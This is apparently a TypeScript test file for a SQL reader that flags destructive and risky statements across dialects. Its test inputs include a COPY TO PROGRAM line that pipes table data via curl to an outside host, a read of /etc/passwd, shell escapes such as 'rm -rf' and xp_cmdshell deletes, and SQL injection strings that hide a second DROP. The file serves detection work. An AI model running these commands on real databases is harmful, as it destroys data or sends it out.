import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { SqlDialect } from '../../../../src/tools/data/sql/dialect.ts';
import { readSql } from '../../../../src/tools/data/sql/read.ts';
import type { Statement } from '../../../../src/tools/data/sql/statement.ts';

/** A statement in a few words: what a person would say it does. */
function brief(statement: Statement): string {
  switch (statement.kind) {
    case 'drop':
      return `drop ${statement.object} ${statement.names.join(',')}${statement.temporary ? ' temporary' : ''}`;
    case 'truncate':
      return `truncate ${statement.tables.join(',')}`;
    case 'delete':
    case 'update':
      return `${statement.kind} ${statement.table} ${statement.where}`;
    case 'insert':
      return `insert ${statement.table} ${statement.conflict}`;
    case 'create':
      return `create ${statement.object} ${statement.name}${statement.body ? ` [${statement.body.map(brief).join('; ')}]` : ''}`;
    case 'alter':
      return `alter ${statement.object} ${statement.name} ${statement.actions.map((action) => action.kind).join(',')}`;
    case 'program':
      return `program ${statement.command} ${statement.side}`;
    case 'file':
      return `${statement.does} ${statement.path} ${statement.side}`;
    case 'block':
    case 'explain':
    case 'prepare':
    case 'schedule':
      return `${statement.kind}${statement.kind === 'explain' ? ` ${statement.runs}` : ''} [${statement.inner.map(brief).join('; ')}]`;
    case 'call':
      return `call ${statement.name}(${statement.args.join(',')})`;
    case 'transaction':
      return statement.does;
    case 'use':
      return `use ${statement.database}`;
    case 'server':
      return `server ${statement.does}`;
    case 'merge':
      return `merge ${statement.table} ${statement.removes}`;
    case 'attach':
      return `attach ${statement.file}`;
    case 'connect':
      return `connect ${statement.to}`;
    default:
      return statement.kind;
  }
}

/** Text, dialect, statements. */
const examples: readonly (readonly [string, SqlDialect, readonly string[]])[] = [
  ['DROP TABLE IF EXISTS a.b, "C d" CASCADE', 'postgres', ['drop table a.b,C d']],
  ['drop/**/table/* x */users', 'unknown', ['drop table users']],
  ['/* a /* b */ DROP TABLE x; */ SELECT 1', 'postgres', ['select']],
  ['/* a /* b */ DROP TABLE x', 'mysql', ['drop table x']],
  ['/* a /* b */ DROP TABLE x', 'unknown', ['drop table x']],
  ['/*!50000 DROP TABLE users */', 'mysql', ['drop table users']],
  ['/*! DROP DATABASE shop */;', 'unknown', ['drop database shop']],
  ['/*! DROP DATABASE shop */;', 'postgres', []],
  ["SELECT 'it''s; DROP TABLE x'", 'postgres', ['select']],
  ["SELECT 'a\\'; DROP TABLE x; --'", 'mysql', ['select']],
  ["SELECT 'a\\'; DROP TABLE x; --'", 'postgres', ['select', 'drop table x']],
  ["SELECT E'a\\'; DROP TABLE x; --'", 'postgres', ['select']],
  ['SELECT $$ DROP TABLE x; $$, $a$ $$ $a$', 'postgres', ['select']],
  ['SELECT 5--1; DROP TABLE x', 'mysql', ['select', 'drop table x']],
  ['SELECT 1 # DROP TABLE x', 'mysql', ['select']],
  ['DELETE FROM `shop`.`orders`', 'mysql', ['delete shop.orders none']],
  ['DELETE [dbo].[Users]', 'sqlserver', ['delete dbo.Users none']],
  ['DELETE u FROM Users u WHERE u.Id = 3', 'sqlserver', ['delete u one']],
  ['DELETE FROM `my-project.sales.orders` WHERE true', 'bigquery', ['delete my-project.sales.orders always']],
  ['DROP SCHEMA my-project.sales CASCADE', 'bigquery', ['drop schema my-project.sales']],
  ["SELECT '''; DROP TABLE x; '''", 'bigquery', ['select']],
  ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'postgres', ['delete t none', 'select']],
  ['WITH a AS (WITH b AS (SELECT 1) DELETE FROM t) SELECT 1', 'postgres', ['delete t none', 'select']],
  ['EXPLAIN DELETE FROM t', 'postgres', ['explain plans [delete t none]']],
  ['EXPLAIN (COSTS OFF, ANALYZE) DELETE FROM t', 'postgres', ['explain runs [delete t none]']],
  ['EXPLAIN (ANALYZE OFF) DELETE FROM t', 'postgres', ['explain plans [delete t none]']],
  ['EXPLAIN QUERY PLAN DELETE FROM t', 'sqlite', ['explain plans [delete t none]']],
  ["COPY t TO PROGRAM 'curl -d @- http://x'", 'postgres', ['select', 'program curl -d @- http://x server']],
  ["COPY t FROM '/etc/passwd'", 'postgres', ['insert t none', 'read /etc/passwd server']],
  ["\\copy t to program 'gzip > t.gz'", 'postgres', ['select', 'program gzip > t.gz client']],
  ['\\! rm -rf x', 'postgres', ['program rm -rf x client']],
  ['SELECT 1 \\g |cat', 'postgres', ['select', 'program cat client']],
  ['\\i drop.sql', 'postgres', ['run drop.sql client']],
  ['\\c other\nDROP TABLE t', 'postgres', ['connect other', 'drop table t']],
  ['\\c shop bob db.example.com 5432', 'postgres', ['connect dbname=shop user=bob host=db.example.com port=5432']],
  ['\\connect -reuse-previous=on - - db.example.com', 'postgres', ['connect host=db.example.com']],
  ['\\c "host=db.example.com dbname=shop"', 'postgres', ['connect host=db.example.com dbname=shop']],
  ['\\c -', 'postgres', []],
  ['connect shop db.example.com', 'mysql', ['connect dbname=shop host=db.example.com']],
  ["SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", 'postgres', ['select', 'drop table \uFFFC']],
  ['COPY t FROM stdin;\n1\tDROP TABLE x;\n\\.\nDELETE FROM u;', 'postgres', ['insert t none', 'delete u none']],
  ['SELECT 1\\G DROP TABLE x;', 'mysql', ['select', 'drop table x']],
  ['\\! id\nsource a.sql\nuse shop\nDROP TABLE t;', 'mysql', ['program id client', 'run a.sql client', 'use shop', 'drop table t']],
  ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 'mysql', ['select', 'write /tmp/x server']],
  ["LOAD DATA LOCAL INFILE 'a.csv' REPLACE INTO TABLE t", 'mysql', ['read a.csv client', 'insert t replace']],
  ['.shell rm x\n.read a.sql\nDELETE FROM t;', 'sqlite', ['program rm x client', 'run a.sql client', 'delete t none']],
  ['.once |sh\n.backup main b.db\n.restore old.db', 'sqlite', ['program sh client', 'write b.db client', 'server restore']],
  ['DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; DROP TABLE u; END//\nDELIMITER ;\nSELECT 1;', 'mysql', ['create function p [delete t none; drop table u]', 'select']],
  ['CREATE PROCEDURE p() BEGIN DELETE FROM t; END; CALL p()', 'mysql', ['create function p [delete t none]', 'block [delete t none]']],
  ['CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM u; END; DROP TABLE z;', 'sqlite', ['create trigger x [delete u none]', 'drop table z']],
  ['CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM t; END $$ LANGUAGE plpgsql; SELECT f();', 'postgres', ['create function f [delete t none]', 'select', 'block [delete t none]']],
  ["DO $$ BEGIN IF true THEN EXECUTE 'TRUNCATE ' || t; END IF; END $$", 'postgres', ['block [block [truncate \uFFFC]]']],
  ["DO $$ DECLARE s text; BEGIN s := 'DROP TABLE x'; EXECUTE s; END $$", 'postgres', ['block [session; block [drop table x]]']],
  ["DO $$ BEGIN EXECUTE (SELECT string_agg('DROP TABLE ' || t, ';') FROM x); END $$", 'postgres', ['block [block [drop table \uFFFC]]']],
  ['DO $$ BEGIN EXECUTE v; END $$', 'postgres', ['block [dynamic]']],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 'postgres', ['prepare [delete t none]', 'block [delete t none]']],
  ["SET @q = 'DROP TABLE t'; PREPARE s FROM @q; EXECUTE s", 'mysql', ['session', 'prepare [drop table t]', 'block [drop table t]']],
  ["EXEC xp_cmdshell 'del /q C:\\data'", 'sqlserver', ['program del /q C:\\data server']],
  ["EXEC sp_executesql N'DROP TABLE t'", 'sqlserver', ['block [drop table t]']],
  ["EXEC sp_MSforeachtable 'TRUNCATE TABLE ?'", 'sqlserver', ['block [truncate every_table]']],
  ["DECLARE @s nvarchar(max) = N'DELETE FROM t'; EXEC(@s)", 'sqlserver', ['session', 'block [delete t none]']],
  ['SELECT 1 DROP TABLE x DELETE y', 'sqlserver', ['select', 'drop table x', 'delete y none']],
  ["IF EXISTS (SELECT 1 FROM sys.tables WHERE name = 'x') DROP TABLE x\nGO\nSELECT 2", 'sqlserver', ['drop table x', 'select']],
  ['CREATE PROC p AS DELETE FROM t; DROP TABLE u\nGO\nDROP TABLE v', 'sqlserver', ['create function p [delete t none; drop table u]', 'drop table v']],
  ['MERGE t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE;', 'sqlserver', ['merge t removes']],
  ['SELECT * INTO #tmp FROM t; DROP TABLE #tmp', 'sqlserver', ['select', 'create table #tmp', 'drop table #tmp temporary']],
  ['ALTER TABLE t DROP COLUMN a, DROP CONSTRAINT c, ALTER COLUMN b TYPE int, ADD d int', 'postgres', ['alter table t drop-column,drop-part,type,add']],
  ['ALTER TABLE t DROP a, b', 'sqlserver', ['alter table t drop-column,drop-column']],
  ['ALTER TABLE t DROP PARTITION p0', 'mysql', ['alter table t drop-rows']],
  ['ALTER TABLE t DELETE WHERE 1', 'clickhouse', ['alter table t drop-rows']],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'postgres', ['alter table t unprotect']],
  ['ALTER DATABASE shop SET RECOVERY SIMPLE', 'sqlserver', ['alter database shop unkeep']],
  ["ALTER SYSTEM SET archive_mode = 'off'", 'postgres', ['server unkeep']],
  ["PURGE BINARY LOGS BEFORE '2026-01-01'; RESET MASTER", 'mysql', ['server unkeep', 'server unkeep']],
  ['REPLACE INTO t VALUES (1)', 'mysql', ['insert t replace']],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1', 'postgres', ['insert t update']],
  ['INSERT OVERWRITE TABLE t SELECT * FROM u', 'snowflake', ['insert t overwrite']],
  ['TRUNCATE TABLE t; TRUNCATE u, v RESTART IDENTITY CASCADE', 'postgres', ['truncate t', 'truncate u,v']],
  ['TRUNCATE DATABASE shop', 'clickhouse', ['drop database shop']],
  ['DROP SCHEMA shop', 'mysql', ['drop database shop']],
  ['DROP OWNED BY app CASCADE', 'postgres', ['drop owned app']],
  ['DROP TRIGGER tr ON users', 'postgres', ['drop trigger tr on users']],
  ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop'", 'postgres', ['select', 'call pg_terminate_backend()']],
  ["SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'postgres', ['select', 'block [drop table t]']],
  ["SELECT cron.schedule('nightly', '0 3 * * *', 'DELETE FROM events')", 'postgres', ['select', 'schedule [delete events none]']],
  ['CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t', 'mysql', ['schedule [delete t none]']],
  ["VACUUM INTO 'copy.db'", 'sqlite', ['write copy.db client']],
  ["ATTACH DATABASE 'other.db' AS o", 'sqlite', ['attach other.db']],
  ['PRAGMA writable_schema = ON', 'sqlite', ['server unprotect']],
  ['BEGIN; DELETE FROM t; ROLLBACK', 'postgres', ['begin', 'delete t none', 'rollback']],
  ['BEGIN TRAN; DELETE FROM t; ROLLBACK TRAN', 'sqlserver', ['begin', 'delete t none', 'rollback']],
  ['DROP TABLE \uFFFC', 'unknown', ['drop table \uFFFC']],
  ['\uFFFC', 'unknown', ['dynamic']],
  ['DROP \uFFFC', 'unknown', ['drop table \uFFFC']],
  ['DROP TABLE ${table}', 'unknown', ['drop table \uFFFC']],
  ['SHUTDOWN', 'mysql', ['server shutdown']],
  ['CREATE RULE r AS ON DELETE TO t DO INSTEAD (DELETE FROM x; DELETE FROM y); SELECT 1', 'postgres', ['create trigger r [delete x none; delete y none]', 'select']],
];

describe('SQL reader', () => {
  for (const [sql, dialect, statements] of examples) {
    it(`${dialect}: ${sql.slice(0, 70).replaceAll('\n', ' ⏎ ')}`, () => {
      assert.deepEqual(readSql(sql, dialect).map(brief), statements);
    });
  }

  it('never throws', () => {
    const word = fc.constantFrom(
      ...'DROP TABLE DELETE FROM WHERE WITH AS ( ) ; , BEGIN END IF THEN ELSE LOOP DO $$ \' " ` [ ] /* */ -- \n \\ \\g \\i GO DELIMITER // CREATE FUNCTION EXECUTE EXEC IMMEDIATE ALTER COPY PROGRAM OR AND NOT IN EXISTS BETWEEN LIKE CASE = 1 a := @x # . :: {{ ${ ? CALL PREPARE EXPLAIN ANALYZE UNION SELECT INTO SET RETURN QUERY FOR \u0000 \u202e'.split(' '),
      '\uD800',
      '\uFFFC',
    );
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(word, { maxLength: 60 }).map((words) => words.join(' ')), fc.array(word, { maxLength: 60 }).map((words) => words.join('')));
    const dialect = fc.constantFrom<SqlDialect>('postgres', 'mysql', 'sqlite', 'sqlserver', 'bigquery', 'snowflake', 'clickhouse', 'duckdb', 'oracle', 'unknown');
    fc.assert(
      fc.property(text, dialect, (sql, one) => {
        assert.deepEqual(readSql(sql, one), readSql(sql, one));
      }),
      { numRuns: 3_000 },
    );
  });

  it('reads long and deeply nested text to its end', () => {
    for (const piece of ['(', 'WITH a AS (', 'EXPLAIN ', 'BEGIN ', 'NOT ', "DO '", 'CREATE FUNCTION f() AS BEGIN ', 'IF a THEN ', 'DELETE FROM t WHERE id IN (', 'ELSE ', '/*', 'SELECT 1 DROP TABLE x ', "'", '$a$ ']) {
      assert.ok(Array.isArray(readSql(piece.repeat(20_000), 'unknown')), piece);
    }
  });

  it('finds a drop behind a million characters', () => {
    const found = readSql(`${"INSERT INTO t VALUES (1, 'abc');\n".repeat(40_000)}DROP TABLE users;`, 'mysql').at(-1);
    assert.equal(found === undefined ? '' : brief(found), 'drop table users');
  });
});
